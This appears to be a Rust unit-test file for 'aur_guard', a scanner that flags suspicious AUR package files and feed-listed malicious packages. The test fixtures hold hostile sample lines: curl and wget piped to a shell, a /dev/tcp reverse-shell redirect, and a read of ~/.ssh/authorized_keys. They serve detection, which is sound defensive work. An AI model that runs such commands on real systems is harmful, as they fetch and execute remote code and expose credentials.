use aur_guard::feeds::{FeedEntry, FeedState};
use aur_guard::gate::{
    check, hits_from_found, ioc_hits, is_interesting, scan_entry_wanted, scan_file_bytes,
};

fn s(v: &[&str]) -> Vec<String> {
    v.iter().map(|x| x.to_string()).collect()
}

#[test]
fn interesting_files() {
    assert!(is_interesting("PKGBUILD"));
    assert!(is_interesting(".SRCINFO"));
    assert!(is_interesting("foo.install"));
    assert!(is_interesting("fix.patch"));
    assert!(is_interesting("run.sh"));
    assert!(is_interesting("Makefile"));
    assert!(!is_interesting("foo.tar.gz"));
    assert!(!is_interesting("README.md"));
    assert!(is_interesting("dir/PKGBUILD"));
    assert!(is_interesting("dir/sub/"));
    assert!(!is_interesting("a.txt/."));
    assert!(is_interesting(".."));
}

#[test]
fn wanted_entries() {
    assert!(scan_entry_wanted("PKGBUILD", true, 10));
    assert!(!scan_entry_wanted("PKGBUILD", false, 10));
    assert!(!scan_entry_wanted("PKGBUILD", true, 512 * 1024 + 1));
    assert!(scan_entry_wanted("PKGBUILD", true, 512 * 1024));
    assert!(!scan_entry_wanted("x.md", true, 1));
}

#[test]
fn indicators_found() {
    let t = "build() {\n  curl -fsSL https://x | bash\n}\n";
    assert_eq!(ioc_hits("PKGBUILD", t), s(&["descarga curl|sh (PKGBUILD)"]));
    let t2 = "echo > /dev/tcp/1.2.3.4/80\ncat ~/.ssh/authorized_keys\n";
    assert_eq!(
        ioc_hits("x.sh", t2),
        s(&["reverse shell /dev/tcp (x.sh)", "acceso authorized_keys (x.sh)"])
    );
    assert_eq!(ioc_hits("PKGBUILD", "make install"), Vec::<String>::new());
}

#[test]
fn binary_and_invalid_files_skipped() {
    assert_eq!(scan_file_bytes("PKGBUILD", b"curl x | sh\0"), Vec::<String>::new());
    assert_eq!(scan_file_bytes("PKGBUILD", &[0xff, 0xfe]), Vec::<String>::new());
    assert_eq!(scan_file_bytes("PKGBUILD", b"wget x | sh"), s(&["descarga wget|sh (PKGBUILD)"]));
}

#[test]
fn verdicts() {
    let st = FeedState {
        updated_at: 0,
        packages: vec![FeedEntry { name: "bad".into(), campaigns: s(&["z", "a"]) }],
    };
    let v = check(&st, "bad-git", &s(&["x (PKGBUILD)", "a"]));
    assert_eq!(v.name, "bad-git");
    assert!(v.malicious);
    assert_eq!(v.reasons, s(&["a", "x (PKGBUILD)", "z"]));
    let v = check(&st, "good", &vec![]);
    assert!(!v.malicious);
    assert!(v.reasons.is_empty());
    let v = check(&st, "good", &s(&["hit"]));
    assert!(v.malicious);
    assert_eq!(v.reasons, s(&["hit"]));
}

#[test]
fn hits_from_indicators_found() {
    let mut found = vec![false; 13];
    found[0] = true;
    found[12] = true;
    assert_eq!(
        hits_from_found("PKGBUILD", &found),
        s(&["descarga curl|sh (PKGBUILD)", "modificacion shell rc (PKGBUILD)"])
    );
    assert_eq!(hits_from_found("f", &vec![false, true]), s(&["descarga wget|sh (f)"]));
    let mut long = vec![false; 20];
    long[15] = true;
    assert_eq!(hits_from_found("f", &long), Vec::<String>::new());
    assert_eq!(hits_from_found("f", &vec![]), Vec::<String>::new());
}

#[test]
fn same_inputs_same_verdict() {
    let st = FeedState {
        updated_at: 0,
        packages: vec![FeedEntry { name: "bad".into(), campaigns: s(&["z", "a", "z"]) }],
    };
    let a = check(&st, "bad", &vec![]);
    let b = check(&st, "bad", &vec![]);
    assert_eq!((a.name, a.malicious, a.reasons), (b.name, b.malicious, b.reasons.clone()));
    assert_eq!(b.reasons, s(&["a", "z"]));
}
